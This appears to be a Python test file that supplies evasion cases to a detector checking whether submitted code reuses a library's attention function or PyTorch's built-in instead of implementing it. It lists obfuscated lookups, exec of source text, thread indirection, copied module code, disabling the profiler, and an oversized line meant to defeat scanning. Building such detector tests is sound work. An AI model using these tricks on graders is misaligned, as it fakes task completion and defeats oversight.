HEADS = "import torch.nn.functional as F\n"
DOT = "(q, k, v, attn_mask=mask)"
TAUGHT = {
    "named": f"{HEADS}def NAME(q, k, v, mask=None): return F.scaled_dot_product_attention{DOT}",
    "imported": "from fmbook.transformers.attention import attention",
    "by another name": "from fmbook.transformers.attention import attention as mine\nNAME = mine",
    "fetched": "NAME = getattr(library, 'att' + 'ention')",
    "from the table of modules": """
import sys
NAME = vars(sys.modules["fmbook.transformers.attention"])["attention"]""",
    "partly applied": "import functools\nNAME = functools.partial(library.__dict__['attention'])",
    "in C, partly applied": f"""{HEADS}import functools
f = functools.partial(vars(F)["scaled_dot_product_" + "attention"])
def NAME(q, k, v, mask=None): return f{DOT}""",
    "by the name in C": """
import torch
f = getattr(torch._C._nn, "scaled_dot_product_" + "attention")
def NAME(q, k, v, mask=None): return next(map(lambda *a: f(*a, attn_mask=mask), [q], [k], [v]))""",
    "by the operator in C": f"""
import torch
f = getattr(torch.ops.aten, "scaled_dot_product_" + "attention")
def NAME(q, k, v, mask=None): return f{DOT}""",
    "written as text": f"""
exec("import torch.nn.functional as F\\ndef NAME(q, k, v, mask=None):"
     " return F.scaled_dot_product_attention{DOT}")""",
    "in a thread": """
import threading
def NAME(*a, **k):
    told = []
    t = threading.Thread(target=lambda: told.append(vars(library)["attention"](*a, **k)))
    t.start(); t.join()
    return told[0]""",
    "in a thread from before": """
import queue, threading
asked, told = queue.Queue(), queue.Queue()
def work():
    while True:
        a, k = asked.get()
        try: told.put(vars(library)["attention"](*a, **k))
        except Exception as error: told.put(error)
threading.Thread(target=work, daemon=True).start()
def NAME(*a, **k):
    asked.put((a, k)); got = told.get()
    if isinstance(got, Exception): raise got
    return got""",
    "in a raw thread": """
import _thread, queue
asked, told = queue.Queue(), queue.Queue()
def work():
    while True:
        a, k = asked.get()
        try: told.put(vars(library)["attention"](*a, **k))
        except Exception as error: told.put(error)
_thread.start_new_thread(work, ())
def NAME(*a, **k):
    asked.put((a, k)); got = told.get()
    if isinstance(got, Exception): raise got
    return got""",
    "with the tracing off": """
import sys
def NAME(*a, **k):
    sys.setprofile(None)
    return vars(library)["attention"](*a, **k)""",
    "with the tracing off for a while": """
import functools, sys
def NAME(*a, **k):
    note = sys.getprofile(); functools.partial(sys.setprofile, None)()
    try: return vars(library)["attention"](*a, **k)
    finally: sys.setprofile(note)""",
    "a copy of the module": """
own = dict(__name__="mine", __file__=library.__file__)
exec(open(library.__file__).read(), own)
NAME = own["attention"]""",
    "a copy of its lines": """
import inspect, math, torch
from torch import Tensor
own = dict(vars(library))
exec("\\n\\n" + inspect.getsource(library.__dict__["attention"]), own)
NAME = own["attention"]""",
    "its code in another function": """
import types
NAME = types.FunctionType(vars(library)["attention"].__code__, vars(library), "mine", (None,))""",
    "as a method": """
class Box: do = staticmethod(vars(library)["attention"])
def NAME(*a, **k): return Box.do(*a, **k)""",
    "as a class": """
class NAME:
    def __new__(cls, *a, **k): return vars(library)["attention"](*a, **k)""",
}
for _name, _source in TAUGHT.items():
    one(f"the taught function {_name}", "attention", _source, flag="t")
one("the taught class, imported", "MultiHeadAttention",
    "from fmbook.transformers.attention import MultiHeadAttention", flag="MultiHeadAttention")  # fmt: skip
one("the taught class, inherited", "MultiHeadAttention",
    "class NAME(vars(library)['MultiHeadAttention']): pass", flag="MultiHeadAttention")  # fmt: skip
one("the taught class, made elsewhere", "MultiHeadAttention",
    "import functools\nNAME = functools.partial(vars(library)['MultiHeadAttention'])",
    flag="MultiHeadAttention")  # fmt: skip
for _task, _taught in {
    "combine": "combine",
    "unify": "unify",
    "consequences": "forward",
}.items():
    one(f"the taught {_taught}", _task, f"NAME = getattr(library, {_taught!r}[:2] + {_taught!r}[2:])",
        flag=_taught)  # fmt: skip
ATTACKS.append(
    Attack(
        name="code too deep to be searched",
        stem=ATTENTION,
        answers={"attention": "from fmbook.transformers.attention import attention"},
        first="x = " + "-" * 200_000 + "1",
        honest=True,
        flag="attention",
    )
)
